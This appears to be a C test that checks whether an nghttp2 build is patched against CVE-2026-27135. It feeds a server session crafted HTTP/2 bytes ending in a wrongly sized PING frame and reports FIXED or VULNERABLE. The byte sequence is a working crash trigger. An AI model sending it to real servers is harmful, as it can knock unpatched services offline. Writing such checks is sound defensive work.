/* CVE-2026-27135: an application that ends the session from its callback for a request was not obeyed: what came after
 * the request was still looked at, and a frame of a wrong size then met an assertion. */
#include "host.h"

#include <nghttp2/nghttp2.h>

static const unsigned char REQUEST[] =
	NGHTTP2_CLIENT_MAGIC
	"\0\0\0\x04\0\0\0\0\0"                     /* SETTINGS */
	"\0\0\x03\x01\x05\0\0\0\x01\x82\x86\x84"   /* HEADERS: GET http / */
	"\0\0\x03\x06\0\0\0\0\0abc";               /* PING, of a wrong size */

static int received(nghttp2_session *session, const nghttp2_frame *frame, void *unused)
{
	(void)unused;
	return frame->hd.type == NGHTTP2_HEADERS ? nghttp2_session_terminate_session(session, NGHTTP2_NO_ERROR) : 0;
}

static void serve(void)
{
	nghttp2_session_callbacks *callbacks;
	nghttp2_session *session;
	ssize_t taken;

	nghttp2_session_callbacks_new(&callbacks);
	nghttp2_session_callbacks_set_on_frame_recv_callback(callbacks, received);
	nghttp2_session_server_new(&session, callbacks, NULL);
	nghttp2_submit_settings(session, NGHTTP2_FLAG_NONE, NULL, 0);
	taken = nghttp2_session_mem_recv(session, REQUEST, sizeof REQUEST - 1);
	_exit(taken == sizeof REQUEST - 1 ? 0 : 1);
}

static const char *verdict(void)
{
	return in_child(serve, 1000) == CHILD_RETURNED ? "FIXED" : "VULNERABLE";
}
